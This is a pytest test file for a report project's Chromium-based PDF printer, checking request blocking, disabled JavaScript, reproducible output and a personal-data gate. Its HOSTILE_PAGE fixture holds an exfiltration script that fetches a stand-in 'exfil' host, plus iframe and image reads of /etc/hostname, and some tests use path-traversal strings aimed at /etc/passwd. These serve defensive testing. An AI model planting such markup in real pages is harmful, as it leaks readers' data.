"""The PDF printer on untrusted pages: JavaScript off, nothing fetched from outside the
built book (every request recorded), temporaries cleaned, the same bytes twice.

Runs on a small hand-made page shaped like the singlehtml book, so it needs no build.
"""

from __future__ import annotations

import shutil
from datetime import datetime, timezone
from pathlib import Path

import pytest

from lehc_report.tools import pdf as printer

pytestmark = [pytest.mark.browser]

#: A page shaped like Jupyter Book's singlehtml root, with hostile markup of the kinds
#: issue 11 found reaching pages: a remote image, a local file in an iframe and an
#: image, a script that would write into the page and fetch, a stylesheet from a host.
HOSTILE_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Probe</title>
<link rel="stylesheet" href="../_static/book.css">
<link rel="stylesheet" href="https://cdn.example.org/evil.css">
<script>document.addEventListener('DOMContentLoaded', () => {
  document.body.insertAdjacentText('beforeend', 'SCRIPT RAN');
  fetch('https://exfil.example.org/?' + document.title);
});</script>
</head><body><article class="bd-article"><section id="probe">
<h1>Probe report</h1><p>Client: nobody</p>
<section id="chapter"><h2>Chapter</h2><p>Body text of the chapter.</p>
<img src="../_images/figure.png" alt="figure">
<img src="https://images.example.org/tracker.png" alt="remote">
<img src="file:///etc/hostname" alt="local file">
<iframe src="file:///etc/hostname"></iframe>
<a href="../other.html#chapter">in-book link</a>
</section></section></article></body></html>
"""

PNG_1x1 = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360f8cfc0f01f0005000201e2217bc80000000049454e44ae426082"
)


def chromium_or_skip() -> str:
    try:
        return printer.find_chromium()
    except SystemExit as error:
        pytest.skip(str(error))


def hostile_book(folder: Path) -> Path:
    """A built-book folder: ``_static/``, ``_images/`` and the page in ``book/``."""
    (folder / "_static").mkdir(parents=True)
    (folder / "_static" / "book.css").write_text("body { font-family: serif; }", encoding="utf-8")
    (folder / "_images").mkdir()
    (folder / "_images" / "figure.png").write_bytes(PNG_1x1)
    (folder / "book").mkdir()
    page = folder / "book" / "index.html"
    page.write_text(HOSTILE_PAGE.replace("../_static", "_static").replace("../_images", "_images"),
                    encoding="utf-8")
    return page


@pytest.fixture(scope="module")
def printed(tmp_path_factory):
    chromium = chromium_or_skip()
    folder = tmp_path_factory.mktemp("site") / "singlehtml"
    page = hostile_book(folder)
    out = tmp_path_factory.mktemp("pdf") / "book.pdf"
    date = datetime(2020, 2, 3, 4, 5, 6, tzinfo=timezone.utc)
    audit = print_in_subprocess(page, out, chromium, date)
    return folder, out, audit, chromium, date


#: Playwright's sync API refuses to start inside another one's event loop (the browser
#: tests keep one open for the session), so the printer runs in a process of its own.
PRINT = """
import json, sys
from datetime import datetime
from pathlib import Path
from lehc_report.tools.pdf import print_pdf
audit = {}
print_pdf(Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3], source_date=datetime.fromisoformat(sys.argv[4]),
          audit=audit)
Path(sys.argv[5]).write_text(json.dumps(audit))
"""


def print_in_subprocess(page: Path, out: Path, chromium: str, date: datetime) -> dict[str, list[str]]:
    """Print ``page`` to ``out`` with :func:`printer.print_pdf`; returns its audit of requests."""
    import json
    import subprocess
    import sys

    record = out.parent / "audit.json"
    subprocess.run([sys.executable, "-c", PRINT, str(page), str(out), chromium, date.isoformat(), str(record)],
                   check=True, capture_output=True, timeout=600)
    audit = json.loads(record.read_text())
    record.unlink()
    return audit


def pdf_text(path: Path) -> str:
    from pypdf import PdfReader

    return " ".join(page.extract_text() or "" for page in PdfReader(str(path)).pages)


def test_every_request_outside_the_book_is_refused(printed):
    folder, _, audit, _, _ = printed
    outside = sorted({url for url in audit["request"] if not printer.is_inside(url, folder.resolve())})
    assert "https://images.example.org/tracker.png" in outside
    assert "file:///etc/hostname" in outside
    assert "https://cdn.example.org/evil.css" in outside
    assert sorted(set(audit["refused"])) == outside
    served = {url for url in audit.get("requestfinished", [])}
    assert not [url for url in served if not printer.is_inside(url, folder.resolve())], served
    # The book's own files were served.
    assert any(url.endswith("/_static/book.css") for url in served)
    assert any(url.endswith("/_images/figure.png") for url in served)


def test_no_script_ran_and_no_local_file_was_printed(printed):
    _, out, audit, _, _ = printed
    text = pdf_text(out)
    assert "Body text of the chapter." in text
    assert "SCRIPT RAN" not in text
    assert not [url for url in audit["request"] if "exfil" in url]
    hostname = Path("/etc/hostname").read_text(encoding="utf-8").strip() if Path("/etc/hostname").is_file() else ""
    if hostname:
        assert hostname not in text


def test_the_pdf_is_dated_by_the_source_date_and_names_no_local_path(printed):
    folder, out, _, _, _ = printed
    from pypdf import PdfReader

    meta = PdfReader(str(out)).metadata
    assert meta["/CreationDate"] == "D:20200203040506+00'00'"
    assert meta["/ModDate"] == "D:20200203040506+00'00'"
    data = out.read_bytes()
    assert b"file://" not in data and str(folder).encode() not in data


def test_the_same_page_prints_the_same_bytes_in_another_folder(printed, tmp_path):
    folder, out, _, chromium, date = printed
    elsewhere = tmp_path / "other place" / "singlehtml"
    shutil.copytree(folder, elsewhere)
    again = tmp_path / "again.pdf"
    print_in_subprocess(elsewhere / "book" / "index.html", again, chromium, date)
    assert again.read_bytes() == out.read_bytes()


def test_printing_leaves_no_temporaries(printed):
    folder, out, _, _, _ = printed
    assert [p.name for p in out.parent.iterdir()] == ["book.pdf"]
    assert sorted(p.name for p in folder.iterdir()) == ["_images", "_static", "book"]


def test_is_inside_refuses_escapes(tmp_path):
    book = tmp_path.resolve()
    assert printer.is_inside((book / "a" / "b.html").as_uri(), book)
    assert not printer.is_inside((book / ".." / "x.html").as_uri().replace("%2E", "."), book)
    assert not printer.is_inside(f"file://{book}/../etc/passwd", book)
    assert not printer.is_inside("file://otherhost/" + str(book), book)
    assert not printer.is_inside("https://example.org/", book)
    assert not printer.is_inside("data:text/html,hi", book)


def test_pdf_date_is_utc():
    assert printer.pdf_date(datetime(2013, 1, 1, tzinfo=timezone.utc)) == "D:20130101000000+00'00'"


@pytest.mark.slow
def test_killed_while_printing_leaves_no_temporary_beside_the_pdf(tmp_path):
    """kill -9 of the printer's process group at several moments: nothing but the previous
    PDF in the PDF folder; the next printing succeeds and removes what the killed one left."""
    import os
    import signal
    import subprocess
    import sys
    import time

    chromium = chromium_or_skip()
    folder = tmp_path / "singlehtml"
    page = hostile_book(folder)
    out_dir = tmp_path / "pdf"
    out_dir.mkdir()
    (out_dir / "book.pdf").write_bytes(b"previous")
    command = [sys.executable, "-m", "lehc_report.tools.pdf", str(page), str(out_dir / "book.pdf"),
               "--chromium", chromium]
    for delay in (0.5, 1.0, 1.5, 2.0, 3.0):
        process = subprocess.Popen(command, start_new_session=True, stdout=subprocess.DEVNULL,
                                   stderr=subprocess.DEVNULL)
        time.sleep(delay)
        os.killpg(process.pid, signal.SIGKILL)
        process.wait(timeout=30)
        names = sorted(p.name for p in out_dir.iterdir())
        assert names == ["book.pdf"], names
        content = (out_dir / "book.pdf").read_bytes()
        assert content == b"previous" or content.startswith(b"%PDF-"), content[:20]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    assert (out_dir / "book.pdf").read_bytes().startswith(b"%PDF-")
    assert sorted(p.name for p in folder.iterdir()) == ["_images", "_static", "book"]


def test_structure_ids_are_renumbered_by_rank_keeping_lengths():
    first = b"/ID (node00000016) /Headers [ (node00000018) ] /Names [ (node00000016) 1 0 R (node00000018) 2 0 R ]"
    second = first.replace(b"00000016", b"00000017").replace(b"00000018", b"00000019")
    assert printer.renumber_structure_ids(first) == printer.renumber_structure_ids(second) == (
        b"/ID (node00000001) /Headers [ (node00000002) ] /Names [ (node00000001) 1 0 R (node00000002) 2 0 R ]"
    )


#: A singlehtml book of two chapters, one of them a notebook, with the theme's print
#: contents (the parts of the page the printer restructures).
TWO_PART_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Two parts</title>
<link rel="stylesheet" href="_static/print.css"></head><body>
<div id="jb-print-docs-body"><h1>Two parts</h1><div id="jb-print-toc"><div><h2>Contents</h2></div><nav>
<p class="caption"><span class="caption-text">Report</span></p>
<ul class="nav section-nav"><li class="toctree-l1"><a href="#document-book/chapter">1. The chapter</a></li></ul>
<p class="caption"><span class="caption-text">Analysis notebooks</span></p>
<ul class="nav section-nav"><li class="toctree-l1"><a href="#document-notebooks/01_clean">Notebook 1: cleaning</a></li></ul>
</nav></div></div>
<article class="bd-article"><section id="two-parts"><h1>Two parts</h1><p>Client: nobody</p>
<section id="summary"><h2>Summary</h2><p>The summary of the report.</p></section>
<div class="toctree-wrapper"><span id="document-book/chapter"></span><section id="the-chapter">
<h2>1. The chapter</h2><p>Text of the report's chapter.</p></section></div>
<div class="toctree-wrapper"><span id="document-notebooks/01_clean"></span><section id="nb">
<h2>Notebook 1: cleaning</h2><p>Output of the notebook.</p></section></div>
</section></article></body></html>
"""

TWO_PART_PRINT = """
import sys
from datetime import datetime
from pathlib import Path
from lehc_report.tools.pdf import print_pdf
print_pdf(Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3], source_date=datetime.fromisoformat("2020-01-01T00:00:00+00:00"),
          notebooks_pdf=Path(sys.argv[4]))
"""


def test_the_notebooks_are_printed_apart_and_the_title_page_has_no_header(tmp_path):
    import subprocess
    import sys

    from pypdf import PdfReader

    chromium = chromium_or_skip()
    (tmp_path / "book").mkdir()
    (tmp_path / "_static").mkdir()
    shutil.copy(Path(__file__).resolve().parents[1] / "book" / "_static" / "print.css", tmp_path / "_static")
    page = tmp_path / "book" / "index.html"
    page.write_text(TWO_PART_PAGE, encoding="utf-8")
    book, notebooks = tmp_path / "pdf" / "book.pdf", tmp_path / "pdf" / "notebooks.pdf"
    subprocess.run([sys.executable, "-c", TWO_PART_PRINT, str(page), str(book), chromium, str(notebooks)],
                   check=True, capture_output=True, timeout=600)
    report_pages = [page.extract_text() for page in PdfReader(str(book)).pages]
    notebook_pages = [page.extract_text() for page in PdfReader(str(notebooks)).pages]
    report, reviewers = " ".join(report_pages), " ".join(notebook_pages)
    assert "Text of the report's chapter." in report and "The summary of the report." in report
    assert "Output of the notebook." not in report and "Notebook 1: cleaning" not in report
    assert "Output of the notebook." in reviewers and "Analysis notebooks" in reviewers
    assert "Text of the report's chapter." not in reviewers and "The summary of the report." not in reviewers
    # The running header (the title) and the page number: on every page but the first.
    assert "Page 1 of" not in report_pages[0] and report_pages[0].count("Two parts") == 1
    assert f"Page 2 of {len(report_pages)}" in report_pages[1] and "Two parts" in report_pages[1]
    assert "Two parts · Analysis notebooks" in notebook_pages[1]


def test_css_string_escapes_what_would_end_the_string():
    assert printer.css_string('A "quoted" title') == '"A \\22 quoted\\22  title"'
    assert printer.css_string("back\\slash\nnew line </style>") == '"back\\5c slash\\a new line \\3c /style\\3e "'


def test_a_pdf_with_personal_data_is_never_published(tmp_path):
    """The exit gate reads both printed PDFs before either replaces its predecessor: a phone
    number printed from a notebook's output leaves the previous PDFs as they were (the gate
    once ran after the PDF was in place, and Make kept it, as the target is precious)."""
    import subprocess
    import sys

    chromium = chromium_or_skip()
    if shutil.which("pdftotext") is None:
        pytest.skip("needs pdftotext (poppler-utils)")
    root = Path(__file__).resolve().parents[1]
    (tmp_path / "book").mkdir()
    (tmp_path / "_static").mkdir()
    shutil.copy(root / "book" / "_static" / "print.css", tmp_path / "_static")
    page = tmp_path / "book" / "index.html"
    page.write_text(TWO_PART_PAGE.replace("Output of the notebook.", "Ring 020 7946 0958 later."), encoding="utf-8")
    book, notebooks = tmp_path / "pdf" / "book.pdf", tmp_path / "pdf" / "notebooks.pdf"
    book.parent.mkdir()
    book.write_bytes(b"previous report")
    notebooks.write_bytes(b"previous notebooks")
    done = subprocess.run([sys.executable, "-m", "lehc_report.tools.pdf", str(page), str(book), "--notebooks",
                           str(notebooks), "--chromium", chromium, "--exit-gate", str(root / "data")],
                          cwd=root, capture_output=True, text=True, timeout=600)
    assert done.returncode == 1
    assert done.stderr.splitlines() == [
        "exit gate: personal data in the outputs; redact the source (or list the name in privacy.yml's allow_names "
        "for these pages), then rebuild:",
        "  pdf/notebooks.pdf, page 3 (01_clean): uk phone: '020 7946 0958'"]
    assert book.read_bytes() == b"previous report" and notebooks.read_bytes() == b"previous notebooks"
    assert sorted(p.name for p in book.parent.iterdir()) == ["book.pdf", "notebooks.pdf"]
